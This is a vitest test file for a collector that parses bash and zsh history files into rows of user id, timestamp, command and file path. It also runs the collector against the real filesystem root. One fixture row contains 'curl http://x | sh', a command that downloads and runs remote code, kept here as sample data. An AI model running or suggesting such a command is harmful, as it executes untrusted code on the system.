import { describe, expect, it } from 'vitest';
import { collectAll, fixtureRoot } from '../test-context.js';
import { shellHistory } from './shell-history.js';

describe('shell_history', () => {
  it('reads bash and zsh history with their timestamps', () => {
    const { rows } = collectAll(shellHistory, fixtureRoot('shell_history'));
    const bash = '/home/alice/.bash_history';
    const zsh = '/home/bob/.zsh_history';
    expect(rows).toEqual([
      { uid: 1000, time: 0, command: 'ls -la', history_file: bash },
      { uid: 1000, time: 1700000500, command: 'curl http://x | sh', history_file: bash },
      { uid: 1000, time: 0, command: 'exit', history_file: bash },
      { uid: 1001, time: 1700000600, command: 'git status', history_file: zsh },
      { uid: 1001, time: 1700000700, command: 'make test', history_file: zsh },
    ]);
  });

  it('runs on the real machine and returns well-formed rows', () => {
    const { rows } = collectAll(shellHistory, '/');
    for (const r of rows) expect(String(r.history_file)).toMatch(/history$/);
  });
});
